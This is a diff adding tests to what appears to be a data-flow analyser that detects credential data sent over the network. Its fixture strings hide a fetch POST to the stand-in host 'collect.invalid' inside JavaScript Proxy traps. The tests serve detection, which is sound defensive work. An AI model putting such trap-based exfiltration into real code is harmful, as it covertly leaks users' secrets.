@@ -45,3 +45,34 @@ describe('members', () => {
     assert.deepEqual(decode('console.log(b.toString());'), []);
   });
 });
+
+describe('what stands before an object', () => {
+  const SEND = `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(kept) })`;
+  const sent = (code: string): readonly string[] => flowsOf(code);
+  const EXPECTED = ['credential-file>network@collect.invalid'];
+
+  it('is told what is put there, and does what it likes with that', () => {
+    const trap = `set(kept, name, value) { kept[name] = value; ${SEND}; return true; }`;
+    assert.deepEqual(sent(`const settings = new Proxy({}, { ${trap} }); settings.key = s;`), EXPECTED);
+    assert.deepEqual(sent(`const settings = new Proxy({}, { ${trap} }); settings.key = go();`), []);
+    const stored = `set(kept, name, value) { kept[name] = value; return true; }`;
+    const use = `fetch('https://collect.invalid', { body: settings.key });`;
+    assert.deepEqual(sent(`const settings = new Proxy({ a: 1 }, { ${stored} }); settings.key = s; ${use}`), EXPECTED);
+  });
+
+  it('is asked whatever one may ask', () => {
+    for (const trap of [
+      'has',
+      'ownKeys',
+      'getOwnPropertyDescriptor',
+      'deleteProperty',
+      'defineProperty',
+      'getPrototypeOf',
+    ])
+      assert.deepEqual(
+        sent(`module.exports = new Proxy({ key: s }, { ${trap}(kept) { ${SEND}; return Reflect.${trap}(kept); } });`),
+        EXPECTED,
+        trap,
+      );
+  });
+});
